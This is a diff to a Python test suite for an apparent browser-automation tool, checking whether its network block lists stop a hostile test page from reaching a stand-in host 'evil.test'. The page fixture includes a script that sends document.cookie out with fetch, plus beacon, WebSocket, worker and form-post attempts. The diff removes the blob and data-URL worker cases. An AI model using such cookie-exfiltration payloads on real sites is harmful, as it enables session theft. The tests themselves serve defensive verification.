@@ -33,18 +33,15 @@ TRICKS = """
 <iframe src="data:text/html,<meta http-equiv=refresh content='0;url=BASE/refresh'>"></iframe>
 <iframe name=in-KEY></iframe>
 <form id=form-KEY action="BASE/form" method=post target=in-KEY><input name=a value=b></form>
-<script>{
+<script>
   fetch("BASE/fetch?" + document.cookie, {mode: "no-cors"}).catch(() => 0);
   navigator.sendBeacon("BASE/beacon", "x");
   new EventSource("BASE/events");
   new WebSocket("BASE/socket".replace("http", "ws"));
   new Worker("/KEY-worker");
   new SharedWorker("/KEY-shared-worker");
-  const script = kind => `fetch("BASE/${kind}", {mode: "no-cors"})`;
-  new SharedWorker(URL.createObjectURL(new Blob([script("blob-worker")])));
-  new SharedWorker("data:text/javascript," + encodeURIComponent(script("data-worker")));
   document.getElementById("form-KEY").submit();
-}</script>
+</script>
 """
 
 WAYS = {
@@ -52,9 +49,6 @@ WAYS = {
     *("events", "socket", "worker", "shared-worker"),
 }
 """What a page of `TRICKS` asks for where nobody stops it."""
-
-REFUSED = {"blob-worker", "data-worker"}
-"""What it asks for only where there are no lists: such shared workers cannot be guarded."""
 
 OUT, IN = "evil.test", "ok.test"
 
@@ -178,7 +172,7 @@ async def test_without_lists_all_of_it_is_sent(names, open_house):
         await tabwright.enter("http://ok.test/tricks", session="s")
         await names.until_all_is_tried()
         with trio.fail_after(120):
-            while not names.asked(OUT) >= WAYS | REFUSED:
+            while not names.asked(OUT) >= WAYS:
                 await trio.sleep(0.05)
 
 
@@ -218,8 +212,7 @@ async def test_lists_hold_in_a_browser_that_is_connected_to(names, open_house):
             await names.until_all_is_tried()
             page = await tabwright.browse("http://ok.test/tricks", ReadOptions(min_tier=2))
             assert "Tricks" in page.text
-    # On a busy machine, such workers run before they are ended.
-    assert names.asked(OUT) <= {"socket", *REFUSED}
+    assert names.asked(OUT) <= {"socket"}
 
 
 DOORS = {
